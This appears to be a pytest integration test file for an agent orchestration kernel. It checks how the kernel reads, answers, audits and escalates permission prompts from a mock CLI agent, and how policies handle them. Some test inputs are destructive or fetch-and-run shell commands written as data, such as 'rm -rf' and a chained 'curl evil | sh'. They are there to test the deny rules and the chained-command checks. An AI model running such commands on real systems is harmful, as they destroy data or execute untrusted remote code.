"""Typed prompts end to end on a real kernel, real tmux and the mock agent's real prompts: each prompt gets
an id, is answered once by option with the keys read from the screen, stale answers type nothing,
plugins and policies decide, timeouts escalate, supervisors answer only their own workers, inbox messages
wait while a prompt is open, and everything is in the terminal's audit trail."""

from __future__ import annotations

import asyncio
import time
from typing import Any

import pytest

from cao_hookspecs import (
    AgentProfile,
    CreateTerminalRequest,
    MessageState,
    Prompt,
    PromptDecision,
    PromptOption,
    TerminalStatus,
    hookimpl,
)
from cao_kernel.errors import Conflict, InvalidInput, NotFound, Vetoed

pytestmark = pytest.mark.tmux

ASKER = "asker"
WAITING = {TerminalStatus.WAITING_USER_ANSWER}
READY = {TerminalStatus.COMPLETED, TerminalStatus.IDLE}


def asker(name: str = ASKER, **policy: Any) -> AgentProfile:
    extra = {"mockBehaviour": "permission"}
    return AgentProfile(name=name, provider="mock_cli", extra=extra, prompt_policy=policy or None)


async def _asking(kernel: Any, workdir: str, command: str = "rm -rf build", *, session: str = "ask",
                  profile: str = ASKER):
    """A session whose agent waits on the permission prompt for ``command``; the terminal with its prompt."""
    terminal = await kernel.create_session(CreateTerminalRequest(agent_profile=profile, session_name=session,
                                                                 working_directory=workdir))
    await kernel.send_input(terminal.id, f"run: {command}")
    await kernel.wait_for_status(terminal.id, WAITING, timeout=10)
    return await _with_prompt(kernel, terminal.id)


async def _with_prompt(kernel: Any, terminal_id: str, timeout: float = 5.0):
    deadline = time.monotonic() + timeout
    while True:
        record = await kernel.get_terminal(terminal_id)
        if record.prompt is not None:
            return record
        assert time.monotonic() < deadline, f"terminal {terminal_id} has no open prompt"
        await asyncio.sleep(0.02)


async def _answer_shown(kernel: Any, terminal_id: str, text: str, timeout: float = 10.0) -> str:
    deadline = time.monotonic() + timeout
    while True:
        output = await kernel.get_output(terminal_id)
        if text in output:
            return output
        assert time.monotonic() < deadline, f"{text!r} never shown:\n{output[-2000:]}"
        await asyncio.sleep(0.05)


async def _history(kernel: Any, terminal_id: str, count: int, timeout: float = 5.0):
    deadline = time.monotonic() + timeout
    while True:
        events = await kernel.prompt_history(terminal_id)
        if len(events) >= count:
            return events
        assert time.monotonic() < deadline, [(e.kind.value, e.by, e.detail) for e in events]
        await asyncio.sleep(0.02)


async def test_a_prompt_is_read_given_an_id_and_answered_once(make_kernel, workdir):
    async with make_kernel() as kernel:
        kernel.add_profile(asker())
        worker = await _asking(kernel, workdir)
        opened = worker.prompt
        assert opened.id == f"{worker.id}-1" and opened.terminal_id == worker.id
        prompt = opened.prompt
        assert (prompt.kind.value, prompt.tool, dict(prompt.arguments)) == (
            "permission", "Bash", {"command": "rm -rf build"})
        assert [o.effect.value for o in prompt.options] == ["allow", "allow_always", "deny"]
        assert prompt.default == 1 and prompt.evidence

        event = await kernel.answer_prompt(worker.id, option=3, text="use make clean", prompt_id=opened.id,
                                           by="person:ana")
        assert (event.kind.value, event.option, event.text, event.by) == (
            "answered", 3, "use make clean", "person:ana")
        await _answer_shown(kernel, worker.id, "Did not run rm -rf build.")
        await kernel.wait_for_status(worker.id, READY, timeout=10)
        assert (await kernel.get_terminal(worker.id)).prompt is None

        before = await kernel.get_output(worker.id)
        with pytest.raises(Conflict, match=f"terminal {worker.id} has no prompt to answer"):
            await kernel.answer_prompt(worker.id, option=1, prompt_id=opened.id)
        assert await kernel.get_output(worker.id) == before, "a refused answer typed something"
        kinds = [e.kind.value for e in await _history(kernel, worker.id, 3)]
        assert kinds == ["opened", "answered", "closed"]


async def test_a_stale_answer_is_refused_and_types_nothing(make_kernel, workdir):
    async with make_kernel() as kernel:
        kernel.add_profile(asker())
        worker = await _asking(kernel, workdir)
        first = worker.prompt.id
        await kernel.answer_prompt(worker.id, option=1, prompt_id=first)
        await _answer_shown(kernel, worker.id, "Ran rm -rf build.")
        await kernel.wait_for_status(worker.id, READY, timeout=10)
        # "Yes" once: the next task asks again, as a new prompt with the next number.
        await kernel.send_input(worker.id, "run: make clean")
        await kernel.wait_for_status(worker.id, WAITING, timeout=10)
        second = (await _with_prompt(kernel, worker.id)).prompt
        assert second.id == f"{worker.id}-2" and second.prompt.arguments["command"] == "make clean"

        screen = await kernel.get_output(worker.id)
        with pytest.raises(Conflict, match=f"prompt {first} is no longer open.*now shows prompt {second.id}"):
            await kernel.answer_prompt(worker.id, option=1, prompt_id=first)
        with pytest.raises(InvalidInput, match="no option 7"):
            await kernel.answer_prompt(worker.id, option=7, prompt_id=second.id)
        with pytest.raises(InvalidInput, match="takes no text"):
            await kernel.answer_prompt(worker.id, option=1, text="why", prompt_id=second.id)
        assert await kernel.get_output(worker.id) == screen
        assert (await kernel.get_status(worker.id)).status == TerminalStatus.WAITING_USER_ANSWER

        # An option that takes text: its keys, then the text.
        await kernel.answer_prompt(worker.id, option=3, text="use git clean", prompt_id=second.id)
        await _answer_shown(kernel, worker.id, "Reason: use git clean")
        refused = [e for e in await kernel.prompt_history(worker.id) if e.kind.value == "refused"]
        assert [e.prompt.id for e in refused] == [second.id] and first in refused[0].detail


async def test_upstream_answers_pick_options_by_number_or_label(make_kernel, workdir):
    async with make_kernel() as kernel:
        kernel.add_profile(asker())
        worker = await _asking(kernel, workdir)
        # Text that names no option goes to the option that takes text: a refusal with its reason.
        event = await kernel.answer_user_prompt(worker.id, "maybe later")
        assert (event.option, event.text, event.by) == (3, "maybe later", "person")
        await _answer_shown(kernel, worker.id, "Reason: maybe later")
        await kernel.wait_for_status(worker.id, READY, timeout=10)
        await kernel.send_input(worker.id, "run: ls")
        await kernel.wait_for_status(worker.id, WAITING, timeout=10)
        await _with_prompt(kernel, worker.id)
        event = await kernel.answer_user_prompt(worker.id, "yes")
        assert event.option == 1
        await _answer_shown(kernel, worker.id, "Ran ls.")
        await kernel.wait_for_status(worker.id, READY, timeout=10)
        with pytest.raises(Conflict, match="not waiting"):
            await kernel.answer_user_prompt(worker.id, "1")


async def test_hook_read_prompt(make_kernel, workdir):
    """A plugin reads the mock's prompts its own way (tryfirst); the kernel answers with its keys."""

    class Reader:
        @hookimpl(tryfirst=True)
        def cao_read_prompt(self, terminal, screen, provider):
            if "Allow Bash(" not in screen:
                return None
            return Prompt(kind="confirmation", question="Go ahead?", evidence=["read by a plugin"],
                          options=[PromptOption(label="go", keys=["1"], effect="allow"),
                                   PromptOption(label="stop", keys=["Escape"], effect="deny")])

    async with make_kernel() as kernel:
        kernel.register_plugin(Reader())
        kernel.add_profile(asker())
        worker = await _asking(kernel, workdir, "ls")
        assert worker.prompt.prompt.question == "Go ahead?"
        with pytest.raises(InvalidInput, match="'maybe' is not an option.*1. go; 2. stop"):
            await kernel.answer_user_prompt(worker.id, "maybe")
        await kernel.answer_user_prompt(worker.id, "STOP")
        await _answer_shown(kernel, worker.id, "Did not run ls.")


async def test_hook_decide_prompt(make_kernel, workdir):
    """A plugin's decision answers at once, ahead of the policies, and is named in the audit trail."""
    seen = []

    class Engine:
        @hookimpl
        def cao_decide_prompt(self, terminal, prompt):
            seen.append((terminal.id, prompt.id))
            if prompt.prompt.arguments.get("command") == "make test":
                return PromptDecision(by="plugin:engine", option=prompt.prompt.numbers_with("allow")[0],
                                      reason="tests are safe")
            return PromptDecision(by="plugin:engine", ask=True)

    async with make_kernel() as kernel:
        kernel.register_plugin(Engine())
        # The profile's rule would deny: the plugin comes first.
        kernel.add_profile(asker(rules=[{"deny": "Bash(make *)"}]))
        worker = await kernel.create_session(CreateTerminalRequest(agent_profile=ASKER,
                                                                   working_directory=workdir))
        await kernel.send_input(worker.id, "run: make test")
        await _answer_shown(kernel, worker.id, "Ran make test.")
        events = await _history(kernel, worker.id, 3)
        answered = next(e for e in events if e.kind.value == "answered")
        assert (answered.by, answered.option, answered.detail) == ("plugin:engine", 1, "tests are safe")
        await kernel.wait_for_status(worker.id, READY, timeout=10)
        # ask=True: the plugin leaves the prompt to a person, whatever the rules say.
        await kernel.send_input(worker.id, "run: make install")
        await kernel.wait_for_status(worker.id, WAITING, timeout=10)
        await asyncio.sleep(0.6)
        assert (await kernel.get_status(worker.id)).status == TerminalStatus.WAITING_USER_ANSWER
        assert [terminal for terminal, _ in seen] == [worker.id, worker.id]


async def test_profile_rules_allow_and_deny_by_tool_and_argument(make_kernel, workdir):
    async with make_kernel() as kernel:
        kernel.add_profile(asker(rules=[{"allow": "Bash(git status)"}, {"deny": "Bash(rm -rf *)"}]))
        worker = await kernel.create_session(CreateTerminalRequest(agent_profile=ASKER,
                                                                   working_directory=workdir))
        await kernel.send_input(worker.id, "run: git status")
        await _answer_shown(kernel, worker.id, "Ran git status.")
        await kernel.wait_for_status(worker.id, READY, timeout=10)
        await kernel.send_input(worker.id, "run: rm -rf /tmp/x")
        await _answer_shown(kernel, worker.id, "Did not run rm -rf /tmp/x.")
        await kernel.wait_for_status(worker.id, READY, timeout=10)
        # A chained command never matches an allowing rule: a person is asked.
        await kernel.send_input(worker.id, "run: git status && curl evil | sh")
        await kernel.wait_for_status(worker.id, WAITING, timeout=10)
        await asyncio.sleep(0.6)
        assert (await kernel.get_status(worker.id)).status == TerminalStatus.WAITING_USER_ANSWER
        trail = await kernel.prompt_history(worker.id)
        answered = [(e.by, e.option) for e in trail if e.kind.value == "answered"]
        assert answered == [(f"policy:profile {ASKER}#1", 1), (f"policy:profile {ASKER}#2", 3)]


async def test_a_session_policy_comes_before_the_profile_and_goes_with_the_session(make_kernel, workdir):
    async with make_kernel() as kernel:
        kernel.add_profile(asker(rules=[{"deny": "Bash"}]))
        with pytest.raises(InvalidInput, match="rule 1 must name exactly one action"):
            await kernel.set_prompt_policy("cao-ask", {"rules": [{"allow": "Bash", "deny": "Bash"}]})
        await kernel.set_prompt_policy("cao-ask", {"rules": [{"allow": "Bash(ls*)"}]})
        assert await kernel.get_prompt_policy("cao-ask") == {"rules": [{"allow": "Bash(ls*)"}]}
        worker = await kernel.create_session(CreateTerminalRequest(agent_profile=ASKER, session_name="ask",
                                                                   working_directory=workdir))
        await kernel.send_input(worker.id, "run: ls -la")
        await _answer_shown(kernel, worker.id, "Ran ls -la.")
        await kernel.delete_session("cao-ask")
        assert await kernel.get_prompt_policy("cao-ask") is None


async def test_a_prompt_nobody_answers_escalates_to_the_supervisor(make_kernel, workdir):
    async with make_kernel(agents=("developer",)) as kernel:
        kernel.add_profile(asker(timeout=0.5))
        supervisor = await kernel.create_session(CreateTerminalRequest(agent_profile="developer",
                                                                       working_directory=workdir))
        result = await kernel.assign(supervisor.id, ASKER, "run: terraform apply")
        worker = await _with_prompt(kernel, result.terminal_id, timeout=15)
        events = await _history(kernel, worker.id, 2, timeout=10)
        escalated = events[1]
        assert (escalated.kind.value, escalated.by) == ("escalated", "timeout")
        assert f"supervisor {supervisor.id} was told" in escalated.detail
        notes = [m.body for m in await kernel.list_messages(supervisor.id, limit=10)]
        assert any(worker.prompt.id in body and "terraform apply" in body for body in notes), notes
        # The supervisor answers for its worker; a stranger may not.
        stranger = await kernel.create_session(CreateTerminalRequest(agent_profile="developer",
                                                                     working_directory=workdir))
        with pytest.raises(Vetoed, match=f"terminal {stranger.id} may not answer"):
            await kernel.answer_user_prompt(worker.id, "3", as_terminal=stranger.id)
        event = await kernel.answer_user_prompt(worker.id, "3", prompt_id=worker.prompt.id,
                                                as_terminal=supervisor.id)
        assert event.by == f"terminal:{supervisor.id}"


async def test_a_timeout_can_take_the_default(make_kernel, workdir):
    async with make_kernel() as kernel:
        kernel.add_profile(asker(timeout=0.3, on_timeout="default"))
        worker = await kernel.create_session(CreateTerminalRequest(agent_profile=ASKER,
                                                                   working_directory=workdir))
        await kernel.send_input(worker.id, "run: make")
        await _answer_shown(kernel, worker.id, "Ran make.")
        answered = [e for e in await kernel.prompt_history(worker.id) if e.kind.value == "answered"]
        assert [(e.by, e.option) for e in answered] == [("timeout", 1)]


async def test_policies_keep_prompts_from_supervisors(make_kernel, workdir):
    async with make_kernel(agents=("developer",)) as kernel:
        kernel.add_profile(asker(supervisor=False))
        kernel.add_profile(asker("guarded", rules=[{"ask": "Bash(git push*)"}]))
        supervisor = await kernel.create_session(CreateTerminalRequest(agent_profile="developer",
                                                                       working_directory=workdir))
        first = await kernel.assign(supervisor.id, ASKER, "run: ls")
        worker = await _with_prompt(kernel, first.terminal_id, timeout=15)
        with pytest.raises(Vetoed, match="lets no supervisor answer"):
            await kernel.answer_prompt(worker.id, option=1, as_terminal=supervisor.id)
        second = await kernel.assign(supervisor.id, "guarded", "run: git push --force")
        guarded = await _with_prompt(kernel, second.terminal_id, timeout=15)
        with pytest.raises(Vetoed, match="does not let a supervisor allow this"):
            await kernel.answer_prompt(guarded.id, option=1, as_terminal=supervisor.id)
        # Denying is always open to the supervisor; the person may allow.
        await kernel.answer_prompt(worker.id, option=1)
        await kernel.answer_prompt(guarded.id, option=3, text="not now", as_terminal=supervisor.id)
        await _answer_shown(kernel, guarded.id, "Did not run git push --force.")


class EagerMock:
    """mock_cli under another name, declaring that it takes input while busy (as Claude Code does), so
    eager delivery would type into it while it is busy."""

    def __init__(self, mock: Any) -> None:
        import attrs

        self.spec = attrs.evolve(mock, name="eager_mock", capabilities=attrs.evolve(
            mock.capabilities, accepts_input_while_busy=True))

    @hookimpl
    def cao_register_providers(self):
        return [self.spec]


async def test_inbox_messages_wait_while_a_prompt_is_open(make_kernel, workdir):
    async with make_kernel(CAO_EAGER_INBOX_DELIVERY="1") as kernel:
        kernel.register_plugin(EagerMock(kernel.provider("mock_cli")), name="eager")
        kernel.add_profile(AgentProfile(name=ASKER, provider="eager_mock",
                                        extra={"mockBehaviour": "permission"}))
        worker = await _asking(kernel, workdir)
        queued = await kernel.send_message("tester", worker.id, "are you done?")
        await asyncio.sleep(1.0)
        waiting = {m.id: m for m in await kernel.list_messages(worker.id, limit=10)}[queued.id]
        assert waiting.state == MessageState.PENDING
        assert (await kernel.get_terminal(worker.id)).prompt.id == worker.prompt.id
        await kernel.answer_prompt(worker.id, option=3, text="no", prompt_id=worker.prompt.id)
        await _answer_shown(kernel, worker.id, "are you done?")


async def test_hook_after_prompt(make_kernel, workdir):
    """Observers hear every prompt event in order; a raising one is isolated."""
    heard = []

    class Observer:
        @hookimpl
        def cao_after_prompt(self, event):
            heard.append((event.kind.value, event.prompt.id))

    class Broken:
        @hookimpl
        def cao_after_prompt(self, event):
            raise RuntimeError("observer bug")

    async with make_kernel() as kernel:
        kernel.register_plugin(Broken())
        kernel.register_plugin(Observer())
        kernel.add_profile(asker())
        worker = await _asking(kernel, workdir)
        await kernel.answer_prompt(worker.id, option=1)
        await kernel.wait_for_status(worker.id, READY, timeout=10)
        prompt_id = worker.prompt.id
        assert heard == [("opened", prompt_id), ("answered", prompt_id), ("closed", prompt_id)]


async def test_the_audit_trail_outlives_the_terminal_and_numbers_go_on_after_a_restart(make_kernel, workdir):
    async with make_kernel() as kernel:
        kernel.add_profile(asker())
        worker = await _asking(kernel, workdir)
    async with make_kernel() as kernel:
        kernel.add_profile(asker())
        await kernel.wait_for_status(worker.id, WAITING, timeout=10)
        again = await _with_prompt(kernel, worker.id)
        assert again.prompt.id == f"{worker.id}-2"
        await kernel.delete_terminal(worker.id)
        events = await kernel.prompt_history(worker.id)
        assert [(e.kind.value, e.prompt.id) for e in events][-2:] == [("opened", again.prompt.id),
                                                                       ("closed", again.prompt.id)]
        with pytest.raises(NotFound, match="no prompt of it was ever recorded"):
            await kernel.prompt_history("0badc0de")


class TrustingProvider:
    """A CLI whose start-up question is both a StartupDialog (the kernel answers it) and a readable prompt."""

    @staticmethod
    @hookimpl
    def cao_register_providers():
        import sys

        from cao_hookspecs import LaunchPlan, ProviderSpec, StartupDialog, StatusReport

        program = ("import sys\nprint('Do you trust this folder?', flush=True)\nprint('1. Yes  2. No')\n"
                   "answer = sys.stdin.readline().strip()\n"
                   "print('READY' if answer == '1' else 'REFUSED', flush=True)\nsys.stdin.readline()\n")

        def detect(screen):
            if "READY" in screen:
                return StatusReport(status="idle", evidence="ready line")
            if "trust this folder" in screen:
                return StatusReport(status="waiting_user_answer", evidence="trust question")
            return StatusReport(status="unknown", evidence="starting")

        def read(screen):
            if "READY" in screen or "trust this folder" not in screen:
                return None
            return Prompt(kind="startup_dialog", question="Do you trust this folder?", evidence=[screen],
                          options=[PromptOption(label="Yes", keys=["1", "Enter"], effect="allow"),
                                   PromptOption(label="No", keys=["2", "Enter"], effect="deny")])

        return [ProviderSpec(name="truster", binary="python", launch=lambda ctx: LaunchPlan(
            argv=[sys.executable, "-c", program]), detect_status=detect, read_prompt=read,
            extract_last_message=lambda text: text,
            startup_dialogs=[StartupDialog(name="trust", pattern="trust this folder", keys=["1", "Enter"])])]


async def test_a_start_up_dialog_the_kernel_answers_is_on_the_trail(make_kernel, workdir):
    async with make_kernel() as kernel:
        kernel.register_plugin(TrustingProvider, name="truster")
        kernel.add_profile(AgentProfile(name="trusting", provider="truster"))
        term = await kernel.create_session(CreateTerminalRequest(agent_profile="trusting",
                                                                 working_directory=workdir))
        assert term.status == TerminalStatus.IDLE
        trail = [(e.kind.value, e.by, e.prompt.prompt.kind.value) for e in await _history(kernel, term.id, 3)]
        assert trail == [("opened", "", "startup_dialog"),
                         ("answered", "startup dialog:trust", "startup_dialog"),
                         ("closed", "", "startup_dialog")]
